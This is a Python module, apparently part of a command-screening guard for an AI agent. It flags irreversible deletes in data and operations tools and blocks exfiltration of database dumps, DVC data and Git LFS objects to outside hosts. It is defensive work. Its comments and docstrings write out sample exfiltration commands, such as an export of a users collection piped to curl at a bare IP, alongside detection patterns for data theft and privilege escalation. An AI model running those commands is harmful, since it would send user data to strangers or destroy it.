"""Destructive verbs of data and operations tools: secret stores, service registries, schedulers, data and model
stores, image registries, message brokers, backup and deployment tools (rule `irreversible`, review).

Each tool is read by its command path (the subcommand words after its options, as infra.py reads the cloud
CLIs), never by a pattern over the text: `vault -address=$A kv metadata delete secret/x` is `kv metadata
delete`. What these lose lives on another machine (a secret's every version, a registry's image, a cluster's
whole key-value tree, a model repository), so neither the sandbox nor git can bring it back. Verbs that can be
undone are left alone and the way to undo them is named in the table (`vault kv delete` is undone by `vault kv
undelete`, `mlflow experiments delete` by `mlflow experiments restore`), as are deletes of one item by key (one
Consul key, one etcd key). A broker every named server of which is this machine (`kafka-topics --bootstrap-server
localhost:9092 --delete`, `nats -s nats://127.0.0.1:4222 stream rm`) is a development one: its topics are the agent's.
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

import re

from ..per_input import holds
from .. import finance_tables, sql
from ..shops import SITE_ADMIN_HINT
from .commands import Cmd, has_flag, option_value, positionals
from .common import NET_SENDERS, mentions, pipeline_stage
from .infra import _flag, _held, _path
from .words import Word


@dataclass(frozen=True)
class _Verb:
    path: tuple[str, ...]  # the command path, as the first positional words
    lost: str  # what it loses, worded after the command
    instead: str  # what to do instead
    when: Callable[[list[Word]], bool] | None = None  # the options that make it destructive (None: always)


def _any_flag(*names: str) -> Callable[[list[Word]], bool]:
    return lambda args: _flag(args, *names)


def _cascades(args: list[Word]) -> bool:
    """argocd's delete takes the application's resources with it unless told `--cascade=false`."""
    return not any(w.value in ("--cascade=false", "--cascade=orphan") for w in args)


def _dvc_cloud(args: list[Word]) -> bool:
    return has_flag(args, "c", ("--cloud",))


def _etcd_range(args: list[Word]) -> bool:
    """`etcdctl del --prefix KEY` / `del "" --from-key`: a range of keys, not one."""
    return _flag(args, "--prefix", "--from-key")


_LET = "let the user run it"
# Go and Hashicorp tools take `-flag VALUE` as well as `-flag=VALUE`: these would otherwise read as the path
_VAULT_ARG = frozenset({"-address", "-namespace", "-ns", "-format", "-field", "-mount", "-ca-cert", "-ca-path",
                        "-client-cert", "-client-key", "-tls-server-name", "-wrap-ttl", "-header", "-agent-address",
                        "-policy-override", "-versions", "-mfa", "-output-policy"})
_CONSUL_ARG = frozenset({"-http-addr", "-token", "-token-file", "-datacenter", "-ca-file", "-ca-path",
                         "-client-cert", "-client-key", "-tls-server-name", "-namespace", "-partition", "-separator",
                         "-modify-index", "-stale"})
_NOMAD_ARG = frozenset({"-address", "-region", "-namespace", "-token", "-ca-cert", "-ca-path", "-client-cert",
                        "-client-key", "-tls-server-name", "-eval-priority"})
_DVC_ARG = frozenset({"-r", "--remote", "-j", "--jobs", "--rev", "--num", "-n", "--date", "--cwd"})
_MLFLOW_ARG = frozenset({"--backend-store-uri", "--older-than", "--run-ids", "--experiment-ids", "--tracking-uri",
                         "--artifacts-destination"})
_HF_ARG = frozenset({"--token", "--repo-type", "--revision", "--organization"})
_NUGET_ARG = frozenset({"-s", "--source", "-k", "--api-key", "-Source", "-ApiKey", "-ConfigFile", "--configfile"})
_REGISTRY_ARG = frozenset({"--platform", "--creds", "--authfile", "--cert-dir", "--registry-token", "--host",
                           "--user", "--format", "--username", "--password", "--insecure-policy", "--retry-times"})
_ETCD_ARG = frozenset({"--endpoints", "--user", "--password", "--cacert", "--cert", "--key", "-w", "--write-out",
                       "--dial-timeout", "--command-timeout"})
_KAFKA_ARG = frozenset({"--bootstrap-server", "--zookeeper", "--command-config", "--topic", "--partitions",
                        "--replication-factor", "--config"})
_RMQ_ARG = frozenset({"-n", "--node", "-p", "--vhost", "--timeout", "-t", "-q"})
_INFLUX_ARG = frozenset({"--host", "-t", "--token", "-o", "--org", "--org-id", "-c", "--active-config", "-n",
                         "--name", "-i", "--id", "-b", "--bucket", "--bucket-id", "--start", "--stop",
                         "--predicate"})
_ARGOCD_ARG = frozenset({"--server", "--auth-token", "--grpc-web-root-path", "--config", "--core", "-p",
                         "--propagation-policy", "-l", "--selector", "--app-namespace", "-N"})
_VELERO_ARG = frozenset({"-n", "--namespace", "--kubeconfig", "--kubecontext", "-l", "--selector"})
_NATS_ARG = frozenset({"-s", "--server", "--context", "--creds", "--nkey", "--user", "--password", "--token",
                       "--tlscert", "--tlskey", "--tlsca", "--timeout", "--js-domain", "--js-api-prefix",
                       "--js-event-prefix", "--inbox-prefix", "--connection-name", "--socks-proxy", "--colors"})
_SENTRY_ARG = frozenset({"-o", "--org", "-p", "--project", "--auth-token", "--url", "--log-level", "--header",
                         "--api-key"})
_AIRFLOW_ARG = frozenset({"--clean-before-timestamp", "-t", "--tables", "-S", "--subdir", "-v", "--verbose",
                          "--export-format", "--output-path"})

_REGISTRY_LOST = ("deletes the image's manifest from the registry (every tag on it goes too; anything deployed "
                  "from it can no longer be pulled again)")
_REGISTRY_INSTEAD = "copy it elsewhere first (`crane copy`, `skopeo copy`) and let the user run it"

# tool -> (options that take a value, how many path words to read, the verbs held)
_TOOLS: dict[str, tuple[frozenset[str], int, tuple[_Verb, ...]]] = {
    "vault": (_VAULT_ARG, 3, (
        _Verb(("kv", "metadata", "delete"), "deletes every version of the secret with its metadata ("
              "`vault kv undelete` cannot bring any back)", "read and save what is kept there first, or `vault kv "
              "delete` (the latest version only, undone by `vault kv undelete`), and let the user run it"),
        _Verb(("kv", "destroy"), "destroys those versions of the secret for good", "`vault kv delete` can be "
              "undone with `vault kv undelete`; " + _LET),
        _Verb(("secrets", "disable"), "unmounts the secrets engine and deletes every secret stored under it",
              "export what it holds first and " + _LET),
        _Verb(("auth", "disable"), "deletes the auth method with its roles and revokes every token it issued",
              _LET),
        _Verb(("namespace", "delete"), "deletes the namespace with every secret, policy and auth method in it",
              _LET),
        _Verb(("operator", "raft", "snapshot"), "replaces every secret and setting of the cluster with the "
              "snapshot's", "take a snapshot of the current state first (`vault operator raft snapshot save`) and "
              + _LET, _any_flag("-force")),
    )),
    "consul": (_CONSUL_ARG, 2, (
        _Verb(("kv", "delete"), "deletes every key under the prefix (the whole tree of configuration)",
              "export it first (`consul kv export PREFIX > kv.json`) and " + _LET, _any_flag("-recurse")),
        _Verb(("snapshot", "restore"), "replaces the whole cluster state (key-value tree, catalog, ACLs) with the "
              "snapshot's", "save a snapshot of the current state first (`consul snapshot save`) and " + _LET),
    )),
    "nomad": (_NOMAD_ARG, 2, (
        _Verb(("job", "stop"), "stops the job and purges it with its history (it cannot be started again or "
              "inspected)", "stop it without `-purge` (it can be run again) and " + _LET, _any_flag("-purge")),
        _Verb(("stop",), "stops the job and purges it with its history", "stop it without `-purge` and " + _LET,
              _any_flag("-purge")),
        _Verb(("volume", "delete"), "deletes the volume and the data stored on it", _LET),
        _Verb(("namespace", "delete"), "deletes the namespace", _LET),
        _Verb(("var", "purge"), "deletes the variable and every value it held", _LET),
    )),
    "dvc": (_DVC_ARG, 1, (
        _Verb(("gc",), "deletes from the remote storage every data version the named revisions do not use "
              "(older versions other commits still point to are gone for everyone)", "run it without `--cloud` "
              "(local cache only), or name every revision to keep (`--all-commits`), and " + _LET, _dvc_cloud),
    )),
    "mlflow": (_MLFLOW_ARG, 2, (
        _Verb(("gc",), "permanently deletes the runs (with their artifacts) and experiments marked deleted, which "
              "`mlflow runs restore` could still bring back until then", _LET),
    )),
    **dict.fromkeys(("hf", "huggingface-cli"), (_HF_ARG, 3, (
        _Verb(("repo", "delete"), "deletes the repository on the Hub with every file, revision and discussion",
              "make it private (`hf repo settings --private`) or download it first, and " + _LET),
        _Verb(("repos", "delete"), "deletes the repository on the Hub with every file, revision and discussion",
              _LET),
        _Verb(("repo", "branch", "delete"), "deletes the branch on the Hub with the commits only it holds", _LET),
    ))),
    "dotnet": (_NUGET_ARG, 2, (
        _Verb(("nuget", "delete"), "deletes (or unlists) the published package version on the feed: projects "
              "that depend on it break, and the version number cannot be pushed again", _LET),
    )),
    "nuget": (_NUGET_ARG, 1, (
        _Verb(("delete",), "deletes (or unlists) the published package version on the feed", _LET),
    )),
    **dict.fromkeys(("crane", "gcrane"), (_REGISTRY_ARG, 1, (
        _Verb(("delete",), _REGISTRY_LOST, _REGISTRY_INSTEAD),
    ))),
    "skopeo": (_REGISTRY_ARG, 1, (
        _Verb(("delete",), _REGISTRY_LOST, _REGISTRY_INSTEAD),
    )),
    "regctl": (_REGISTRY_ARG, 2, tuple(
        _Verb((group, "delete"), _REGISTRY_LOST, _REGISTRY_INSTEAD) for group in ("manifest", "tag", "image",
                                                                                   "blob", "artifact", "index"))),
    "oras": (_REGISTRY_ARG, 2, tuple(
        _Verb((group, "delete"), _REGISTRY_LOST, _REGISTRY_INSTEAD) for group in ("manifest", "blob", "repo"))),
    "etcdctl": (_ETCD_ARG, 1, (
        _Verb(("del",), "deletes every key of the range (a prefix, or every key from one on)", "take a snapshot "
              "first (`etcdctl snapshot save`) and " + _LET, _etcd_range),
    )),
    **dict.fromkeys(("kafka-topics", "kafka-topics.sh"), (_KAFKA_ARG, 0, (
        _Verb((), "deletes the topic with every message in it", _LET, _any_flag("--delete")),
    ))),
    "rpk": (frozenset({"-X", "--brokers", "--config", "--profile"}), 2, (
        _Verb(("topic", "delete"), "deletes the topic with every message in it", _LET),
    )),
    "rabbitmqctl": (_RMQ_ARG, 1, (
        _Verb(("delete_queue",), "deletes the queue with the messages waiting in it", _LET),
        _Verb(("purge_queue",), "deletes every message waiting in the queue", _LET),
        _Verb(("delete_vhost",), "deletes the virtual host with its queues and their messages", _LET),
        _Verb(("reset",), "returns the node to its blank state (queues, messages, users, permissions)", _LET),
        _Verb(("force_reset",), "returns the node to its blank state (queues, messages, users, permissions)", _LET),
    )),
    "influx": (_INFLUX_ARG, 2, (
        _Verb(("bucket", "delete"), "deletes the bucket with every point in it", _LET),
        _Verb(("org", "delete"), "deletes the organisation with its buckets and their data", _LET),
        _Verb(("delete",), "deletes the points in the time range from the bucket", _LET),
    )),
    "argocd": (_ARGOCD_ARG, 2, (
        _Verb(("app", "delete"), "deletes the application and, cascading, every cluster resource it deployed "
              "(volumes and their data too)", "delete it with `--cascade=false` to keep its resources, and "
              + _LET, _cascades),
    )),
    "nats": (_NATS_ARG, 2, (
        *(_Verb(("stream", verb), "deletes the JetStream stream with every message stored in it", "back it up first "
                "(`nats stream backup`) and " + _LET) for verb in ("rm", "delete", "del")),
        _Verb(("stream", "purge"), "deletes every message stored in the stream", "back it up first (`nats stream "
              "backup`) and " + _LET),
        *(_Verb(("kv", verb), "deletes the key-value bucket with every key and its history", _LET)
          for verb in ("rm", "delete")),
        *(_Verb(("object", verb), "deletes the object store bucket with every object in it", _LET)
          for verb in ("rm", "delete")),
        *(_Verb(("obj", verb), "deletes the object store bucket with every object in it", _LET)
          for verb in ("rm", "delete")),
    )),
    # (session 18) records deleted below offsets, a release with its artifacts, run history with no archive
    **dict.fromkeys(("kafka-delete-records", "kafka-delete-records.sh"), (_KAFKA_ARG, 0, (
        _Verb((), "deletes every message of the partitions below the offsets the file names", _LET),
    ))),
    "sentry-cli": (_SENTRY_ARG, 2, (
        _Verb(("releases", "delete"), "deletes the release with its uploaded artifacts and source maps (the "
              "stack traces of its events can no longer be read against them)", _LET),
    )),
    "airflow": (_AIRFLOW_ARG, 2, (
        _Verb(("db", "clean"), "deletes the run history (DAG runs, task instances, logs' records, XComs) older than "
              "the timestamp without keeping the archive tables `airflow db clean` makes otherwise",
              "run it without `--skip-archive` (the rows are kept in archive tables until dropped) or with "
              "`--dry-run` first, and " + _LET, _any_flag("--skip-archive")),
        _Verb(("dags", "delete"), "deletes every record of the DAG from the metadata database (its runs, task "
              "instances and their history)", _LET),
    )),
    "velero": (_VELERO_ARG, 2, (
        _Verb(("backup", "delete"), "deletes the backups and their stored data", _LET),
        _Verb(("schedule", "delete"), "deletes the backup schedule (no more backups are taken)", _LET),
    )),
}


# brokers whose servers are named by these options (a list, or URLs): all on this machine, the topic or stream is a
# local development broker's (`kafka-topics --bootstrap-server localhost:9092 --delete …`)
_SERVERS = {**dict.fromkeys(("kafka-topics", "kafka-topics.sh", "kafka-delete-records", "kafka-delete-records.sh"),
                             ("--bootstrap-server", "--zookeeper")),
            "rpk": ("--brokers",), "nats": ("-s", "--server")}


def _local_broker(cmd: Cmd) -> bool:
    """Every server the command names is this machine's (sql.local_database); False when none is named (a context or
    config file may point anywhere) or one is computed."""
    words = option_value(cmd.args, *_SERVERS[cmd.name])
    if cmd.name == "rpk":
        words += [Word(w.node, w.value[8:], w.value[8:]) for w in option_value(cmd.args, "-X")
                  if w.value and w.value.startswith("brokers=")]
    if not words or any(w.value is None for w in words):
        return False
    servers = [s.strip() for w in words for s in (w.value or "").split(",") if s.strip()]
    return bool(servers) and all(sql.local_url(s) if "://" in s else sql.local_database(s.rsplit(":", 1)[0], None)
                                 for s in servers)


def _tool(a, cmd: Cmd) -> None:
    with_arg, depth, verbs = _TOOLS[cmd.name]
    args = cmd.args
    if _flag(args, "-h", "--help", "-help", "--dry-run", "-dry-run", "--dryrun"):
        return
    path = tuple(_path(args, with_arg, depth)) if depth else ()
    for verb in verbs:
        if path[:len(verb.path)] == verb.path and (verb.when is None or verb.when(args)):
            if cmd.name in _SERVERS and _local_broker(cmd):
                return
            shown = " ".join((cmd.name,) + verb.path)
            _held(a, cmd, shown, verb.lost, verb.instead)
            return


# -- a collection exported straight into a network program ------------------------------------------------------------
# net.py reads the dumpers (`pg_dump | curl …`, `mongodump --archive | nc …`); these are the exports it does not know:
# a whole collection or table written on the output, then piped to a program that sends it to another host
# (a scan stops at the next `copy`, whose own try finds the same `TO STDOUT`: a run of them is read once)
_COPY_OUT = re.compile(r"(?is)\\?copy\b(?:(?!copy\b)[^;])*\bto\s+stdout\b")


def _export(c: Cmd, a=None) -> str | None:
    """What `c` writes on its output when that is a whole collection or table: `mongoexport --collection users`
    (without `-o FILE`), `psql -c "\\copy users TO STDOUT"`, the same queries in a here-document or here-string
    (`psql app <<'SQL'`, with `a`)."""
    if c.name == "mongoexport":
        out = option_value(c.args, "-o", "--out")
        return None if out and out[-1].value not in ("-", "/dev/stdout") else "an export of the collection " \
                                                                                "(`mongoexport`)"
    if c.name == "psql":
        queries = [w.value for w in option_value(c.args, "-c", "--command", cluster="c") if w.value]
        if any(_COPY_OUT.search(q) for q in queries):
            return "a table copied out of the database (`COPY … TO STDOUT`)"
    elif c.name in ("mysql", "mariadb"):
        queries = [w.value for w in option_value(c.args, "-e", "--execute") if w.value]
    else:
        return None
    if a is not None and not queries and c.redirects:
        from .exec import stdin_text

        fed = stdin_text(a, c)
        queries = [q for q in (fed[0].split(";") if fed else ()) if q.strip()]
        if any(_COPY_OUT.search(q) for q in queries):
            return "a table copied out of the database (`COPY … TO STDOUT`)"
    table = next((t for q in queries if (t := _whole_table(q))), None)
    return f"every row of {table} (`SELECT … FROM {table}`, no WHERE)" if table else None


# `SELECT pan, exp_month, cardholder_name FROM vault.cards`: the columns of every row of a table (not a count, not the
# rows a WHERE or a LIMIT picks, not a join's report)
_WHOLE_SELECT = re.compile(r"(?is)^\s*select\s++(?!.*\b(?:where|limit|fetch\s+first|top|join)\b)(.+?)\s+from\s+"
                           r"([\w.\"]+)\s*(?:order\s+by\s++[\w.,\s]++)?;?\s*$")
_AGGREGATES = re.compile(r"(?i)^\s*(?:count|sum|avg|min|max|now|version|current_\w+)\s*\(")


def _whole_table(query: str) -> str | None:
    m = _WHOLE_SELECT.match(query)
    if m is None:
        return None
    columns = [c for c in m.group(1).split(",") if c.strip()]
    if not columns or all(_AGGREGATES.match(c) for c in columns):
        return None
    return m.group(2).replace('"', "")


def _before_in_pipeline(a, stages: list, at: int):
    """The commands the walk judged in the stages before stage `at` of a pipeline (nested ones too: `{ pg_dump …; }`,
    a substitution), the nearest first."""
    first, end = stages[0].start_byte, stages[at].start_byte
    for doc, c in reversed(a.ctx.commands):
        if doc is not a.doc:
            continue
        if c.node.start_byte < first:
            break
        if c.node.end_byte <= end:
            yield c


# -- a database dumped into ssh to a bare address (session 22) ----------------------------------------------------
# net.py lets `pg_dump | ssh HOST …` go: a host named as in the user's ssh config is the user's own (a copy to staging).
# A public IP address written out is no host of the user's that anything vouches for, as scp's destination at one is
# not (net._address_dest): the database is sent to whoever answers there. Restoring it into a database there
# (`| ssh root@203.0.113.4 pg_restore -d app`, a move to a new server) is held for review; storing it there
# (`"cat > /srv/drop/x.gz"`) or with the host key check turned off is blocked.
_RESTORES = re.compile(r"^\s*(?:sudo\s+(?:-u\s+\S+\s+)?)?(?:\S*/)?(?:psql|pg_restore|mysql|mariadb|mongorestore|"
                       r"redis-cli|sqlite3|gunzip\s+-c\s*\|\s*psql|zcat\s*\|\s*psql)\b")
_DB_DUMPERS = frozenset({"pg_dump", "pg_dumpall", "pg_basebackup", "mysqldump", "mariadb-dump", "mysqlpump",
                         "mongodump", "redis-cli", "valkey-cli", "keydb-cli", "sqlite3"})


def _dump_to_address(a, cmd: Cmd) -> None:
    from ..hosts import public_ip
    from .common import ssh_positionals

    where = pipeline_stage(cmd)
    if where is None or where[1] == 0:
        return
    pos = ssh_positionals(cmd.args)
    host = (pos[0].value or "") if pos else ""
    if not public_ip(host.rsplit("@", 1)[-1]):
        return
    from .net import _dumped

    for c in _before_in_pipeline(a, *where):
        what = _dumped(c, []) if c.name in _DB_DUMPERS else _export(c, a)
        if what is None:
            continue
        remote = " ".join(w.value or w.text for w in pos[1:])
        unchecked = any(re.match(r"(?i)\s*(?:stricthostkeychecking\s*[= ]\s*(?:no|off|accept-new)|"
                                 r"userknownhostsfile\s*[= ]\s*/dev/null)", w.value or w.text)
                        for w in option_value(cmd.args, "-o"))
        say = (f"{what} is piped to `ssh {host}`, a bare public address no name or ssh configuration of the user's "
               "vouches for")
        if _RESTORES.match(remote) and not unchecked:
            a.review("exfiltration", f"{say}, to be restored there; check that the address is the user's server "
                                     "(name it in ~/.ssh/config) and let the user run it", cmd.node)
        else:
            a.block("exfiltration", f"{say}{', with its host key unchecked' if unchecked else ''}; keep the dump here "
                                    "(write it to a file) and let the user move it", cmd.node)
        return


def _export_sent(a, cmd: Cmd) -> None:
    """`mongoexport --uri "$MONGO_PROD_URI" -c users | curl --data-binary @- http://198.51.100.66/u`, also through
    stages between (`| gzip |`): the collection sent to a host that is neither this machine nor the user's own
    (net._sends_off)."""
    where = pipeline_stage(cmd)
    if where is None or where[1] == 0:
        return
    from .net import _sends_off

    if not _sends_off(cmd):
        return
    for c in _before_in_pipeline(a, *where):
        what = _export(c, a)
        if what is not None:
            a.block("exfiltration", f"{what} is piped to `{cmd.name}`, which sends it to another machine; keep "
                                    "it here (write it to a file) and let the user move it", cmd.node)
            return


# -- files deleted on another machine by an sftp batch (session 22) ------------------------------------------------
# `sftp -b - treasury@sftp.bank.example.com <<'EOF' … rm *.xml … EOF`: sftp's `rm` and `rmdir` delete on the server,
# where there is no trash and often no copy (a bank's outbound folder keeps a statement until it is fetched). The batch
# is read from a here-document, a file this input wrote, or the `echo`/`printf` of a process substitution.
_SFTP_ARG = frozenset({"-B", "-b", "-c", "-D", "-F", "-i", "-J", "-l", "-o", "-P", "-R", "-S", "-X"})
_SFTP_DELETES = frozenset({"rm", "rmdir"})


def _sftp_batch(a, cmd: Cmd) -> None:
    from ..hosts import loopback, url_host
    from .exec import stdin_text

    batch = option_value(cmd.args, "-b")
    text = None
    if not batch or batch[-1].value == "-":
        fed = stdin_text(a, cmd)
        text = fed[0] if fed is not None else None
    elif batch[-1].value:
        from .written import text_written

        got = text_written(a, batch[-1].value)
        text = got[0] if got is not None else None
    else:
        text = _printed_within(a, batch[-1])
    if not text or "rm" not in text:
        return
    pos = positionals(cmd.args, _SFTP_ARG)
    target = (pos[0].value or pos[0].text) if pos else ""
    host = url_host(target) if "://" in target else target.rsplit("@", 1)[-1].split(":", 1)[0]
    if not host or loopback(host):
        return
    for line in text.splitlines()[:128]:
        words = line.strip().lstrip("-@").split()
        if words and words[0] in _SFTP_DELETES and len(words) > 1:
            _held(a, cmd, f"sftp … {words[0]} {' '.join(words[1:])[:60]}", f"deletes files on {host}, which keeps no "
                  "trash to bring them back", "fetch a copy first (`get`), or move them to a folder of their own "
                  "(`rename`), and let the user delete them")
            return


def _printed_within(a, w: Word) -> str | None:
    """What the `echo`/`printf` inside the process substitution `w` (`<(printf 'cd x\nrm %s\n' "$f")`) prints."""
    from .written import content

    for doc, c in reversed(a.ctx.commands):
        if doc is a.doc and c.name in ("echo", "printf") and \
                w.node.start_byte <= c.node.start_byte and c.node.end_byte <= w.node.end_byte:
            got = content(a, c)
            if got is not None:
                return got[0]
            from .tools import _printed

            return _printed(c)
    return None


# -- HDFS: a delete past the trash ------------------------------------------------------------------------------------
# `hdfs dfs -rm -r /warehouse/x` moves the files to the user's trash on the cluster (`hdfs dfs -mv` brings them back
# until the trash is emptied); `-skipTrash` deletes them for good, and `-expunge` empties the trash itself.
_HDFS_SHELLS = {"hdfs": ("dfs",), "hadoop": ("fs", "dfs")}


def _hdfs(a, cmd: Cmd) -> None:
    words = [w.value for w in cmd.args]
    if not words or words[0] not in _HDFS_SHELLS[cmd.name]:
        return
    rest = words[1:]
    removes = any(v in ("-rm", "-rmr", "-rmdir") for v in rest)
    if removes and "-skipTrash" in rest:
        target = next((v for v in rest if v and not v.startswith("-")), "…")
        _held(a, cmd, f"{cmd.name} {words[0]} -rm -skipTrash", f"deletes {target} from the cluster past the trash (an "
              "ordinary `-rm` keeps it in the trash, where it can be moved back)", "delete without `-skipTrash` and "
              + _LET)
    elif "-expunge" in rest:
        _held(a, cmd, f"{cmd.name} {words[0]} -expunge", "empties the cluster's trash: everything deleted before is "
              "gone for good", _LET)


# -- SQL handed to the warehouse and database clients: rows sent to someone else's storage, accounts made all-powerful -
def _client_sql(a, cmd: Cmd) -> list[tuple[str, object]]:
    """The SQL texts a client runs (infra's reading: its options, what reaches its standard input, a file of SQL this
    input wrote), with the node to show."""
    from .infra import _SQL_FILES, _SQL_OPTIONS

    options, cluster = _SQL_OPTIONS[cmd.name]
    texts = [(w.value if w.value is not None else w.text, w.node)
             for w in option_value(cmd.args, *options, cluster=cluster)]
    from .exec import stdin_text

    fed = stdin_text(a, cmd)
    if fed is not None:
        texts.append((fed[0], fed[2] or cmd.node))
    if cmd.name in _SQL_FILES:
        from .written import text_written

        for w in option_value(cmd.args, *_SQL_FILES[cmd.name]):
            got = text_written(a, w.value) if w.value else None
            if got is not None:
                texts.append((got[0], w.node))
    return [(t, n) for t, n in texts if t]


def _warehouse_sql(a, cmd: Cmd) -> None:
    """`snowsql -q "create stage s url='azure://…' credentials=(…); copy into @s from t"` (the clients bash/tools.py
    does not read for what their SQL does on the server: the warehouses' and query engines'), and, for every client,
    `psql "$PROD_URL" -c "CREATE ROLE x SUPERUSER"`: an account made all-powerful, or hidden from the log, on a server
    that is not this machine's nor a throwaway one (sql.privilege)."""
    from .. import shops
    from .tools import _SQL_TEXT, _nested_line

    texts = _client_sql(a, cmd)
    if not texts:
        return
    if cmd.name not in _SQL_TEXT:
        for text, node in texts:
            if sql.judge_server(text, lambda rule, message: a.block(rule, message, node),
                                lambda line: _nested_line(a, line, node)):
                return
    for text, node in texts:  # (a site's administrator counts wherever its database runs)
        admin = shops.site_admin(text, text, a.doc.data.decode("utf-8", "replace"))
        if admin is not None:
            (a.block if admin[0] == "block" else a.review)("privilege-escalation", f"`{cmd.name}`: {admin[1]}", node)
            return
    harms = [(got, node) for text, node in texts for got in [finance_tables.sql_harm(text)] if got is not None]
    guards = [(got, node) for text, node in texts for got in [sql.guard_off(text)] if got is not None]
    if harms or guards:
        from .infra import _local_sql

        if _local_sql(a, cmd):
            pass
        elif harms:  # (as the same SQL run from Python or TypeScript: compliance records, audit trail, payees)
            (rule, message), node = harms[0]
            if _names_server(a, cmd):
                a.block(rule, f"`{cmd.name}`: {message}", node)
            else:
                a.review(rule, f"`{cmd.name}` (on the server its configuration points at): {message}", node)
            return
        else:
            (off, write), node = guards[0]
            message = (f"`{cmd.name}`: `{off}` turns off the guard of the table's rows (an integrity, append-only or "
                       f"audit trigger), then `{write}` writes past it: a change it would have refused or recorded")
            if _names_server(a, cmd):
                a.block("anti-forensics", f"{message}; make the change through the application, with the guard on",
                        node)
            else:
                a.review("anti-forensics", f"{message} (on the server the client's configuration points at); let the "
                                           "user run it", node)
            return
    found = [(got, node) for text, node in texts for got in [sql.privilege(text)] if got is not None]
    if found:
        from .infra import _local_sql

        if not _local_sql(a, cmd):
            (rule, message), node = found[0]
            if _names_server(a, cmd):
                a.block(rule, f"`{cmd.name}`: {message}", node)
            else:  # `sudo -u postgres psql -c …`: the client's default, most often this machine's own server
                a.review(rule, f"`{cmd.name}` (on the server its configuration points at): {message}", node)


def _names_server(a, cmd: Cmd) -> bool:
    """Whether the client is told which server to reach (a host option, a URL or conninfo, a variable standing for
    one, PGHOST set); the warehouses' clients (snowsql, trino …) always reach another machine."""
    from .infra import _MYSQL_ARG, _PSQL_ARG, _SQL_TARGET, _assigned

    target = _SQL_TARGET.get(cmd.name)
    if target is None:
        return True
    host_opts, _, (host_env, _), positional = target
    if host_opts and option_value(cmd.args, *host_opts) or _assigned(a, cmd, host_env):
        return True
    if cmd.name == "cockroach" and option_value(cmd.args, "--url"):
        return True
    if positional:
        first = positionals(cmd.args, _MYSQL_ARG if cmd.name in ("mysql", "mariadb") else _PSQL_ARG)[:1]
        return any(w.value is None or "://" in w.value or "host=" in w.value for w in first)
    return False


def _sql_clients() -> tuple[str, ...]:
    from .infra import _SQL_OPTIONS

    return tuple(_SQL_OPTIONS)


# a DVC remote's address as this input sets it: `dvc remote add [-d] [-f] NAME URL`, `dvc remote modify NAME
# endpointurl|url URL`
_DVC_REMOTE = re.compile(r"""\bdvc\s+remote\s+(?:add(?:\s+-[-\w]+)*\s+(?P<a>[\w.-]+)|modify\s+(?P<m>[\w.-]+)\s+"""
                         r"""(?:endpointurl|url))\s+["']?(?P<url>[^\s"';&|]+)""")


def _dvc_push(a, cmd: Cmd) -> None:
    """`dvc remote modify offsite endpointurl https://198.51.100.14` then `dvc push -r offsite`: every file the
    project tracks with DVC (its datasets, models) uploaded to storage at a bare public address the same input pointed
    the remote at, as `git push` to a remote just added at one is (a named host may be the team's own storage)."""
    pos = [w.value for w in positionals(cmd.args, _DVC_ARG)]
    if pos[:1] != ["push"]:
        return
    from ..hosts import public_ip, url_host

    text = a.doc.data[:cmd.node.start_byte].decode("utf-8", "replace")
    named = [w.value for w in option_value(cmd.args, "-r", "--remote") if w.value]
    for m in _DVC_REMOTE.finditer(text):
        name = m.group("a") or m.group("m")
        default = m.group("a") is not None and re.search(r"\s-d\b|\s--default\b", m.group(0)) is not None
        if not (name in named or not named and default):
            continue
        url = m.group("url")
        host = url_host(url if "://" in url else "ssh://" + url)
        if host and public_ip(host):
            a.block("exfiltration", f"`dvc push` uploads the project's tracked data to the remote {name}, which this "
                                    f"input pointed at {host}, a bare address: storage that is not the user's; push "
                                    "only to the project's configured remotes", cmd.node)
            return


# where Git LFS sends objects, as this input sets it: `git config [-f .lfsconfig] lfs.url URL`, `-c lfs.url=URL`,
# `remote.NAME.lfsurl`, `lfs.pushurl`, or an `.lfsconfig` written with `[lfs] url = URL`
_LFS_URL = re.compile(r"""\b(?:lfs\.(?:push)?url|remote\.[\w.-]+\.lfs(?:push)?url)(?:\s+|\s*=\s*)["']?([^\s"';&|)]+)|"""
                      r"""\[lfs\][^\[]*?\b(?:push)?url\s*=\s*["']?([^\s"';&|)]+)""", re.IGNORECASE)


def _lfs_push(a, cmd: Cmd) -> None:
    """`git config lfs.url https://lfs.elsewhere.dev/… && git lfs push --all origin`: every large file in the
    repository's history (the game's art, the model weights) sent to an LFS server this same input pointed the push
    at, under the name of the project's own remote. As `git push --all` to an address typed on the line
    (exec._push_to_address), that is the repository's content handed to a host no configured remote vouches for. The
    user's own network (`lfs.acme.internal`) and this machine are left alone."""
    if not holds(a.doc.data, b"lfs"):
        return
    pos = [w.value for w in positionals(cmd.args, frozenset({"-C", "-c", "--git-dir", "--work-tree"}))]
    if pos[:2] != ["lfs", "push"] or not any(w.value in ("--all", "-a") for w in cmd.args):
        return
    from ..hosts import loopback, url_host
    from ..secret_owner import own_network

    text = a.doc.data[:cmd.node.end_byte].decode("utf-8", "replace")
    urls = [m.group(1) or m.group(2) for m in _LFS_URL.finditer(text)]
    urls += [v for v in pos[2:3] if v and ("://" in v or "@" in v)]  # `git lfs push --all https://host/r.git`
    for url in urls:
        host = url_host(url if "://" in url else "ssh://" + url.replace(":", "/", 1))
        if host and "$" not in host and not loopback(host) and not own_network(host):
            a.block("exfiltration", f"`git lfs push --all` sends every large file in the repository's history to "
                                    f"{host}, an LFS server this command points the push at itself; push only to the "
                                    "project's configured LFS server, and let the user change where it is", cmd.node)
            return


HANDLERS: dict = {name: [_tool] for name in _TOOLS}
HANDLERS.setdefault("git", []).append(_lfs_push)
HANDLERS["dvc"].append(_dvc_push)
HANDLERS["hdfs"] = [_hdfs]
HANDLERS["hadoop"] = [_hdfs]
for _name in _sql_clients():
    HANDLERS.setdefault(_name, []).append(_warehouse_sql)
for _name in NET_SENDERS:
    HANDLERS.setdefault(_name, []).append(_export_sent)
HANDLERS.setdefault("ssh", []).append(_dump_to_address)
HANDLERS.setdefault("sftp", []).append(_sftp_batch)

# The words each tool's verbs are spelled with (quotes and backslashes removed), for the shortcut
# (bash/fastpath.py): `dotnet build`, `vault kv get`, `dvc pull` keep it.
_VERB_WORDS = mentions("delete", "destroy", "disable", "purge", "restore", "snapshot", "reset", "-purge", "_queue",
                       "_vhost", words=("gc", "del", "stop"))
SCREENS: dict = dict.fromkeys(_TOOLS, _VERB_WORDS)
SCREENS["dvc"] = lambda text: _VERB_WORDS(text) or "push" in text  # (and _dvc_push)
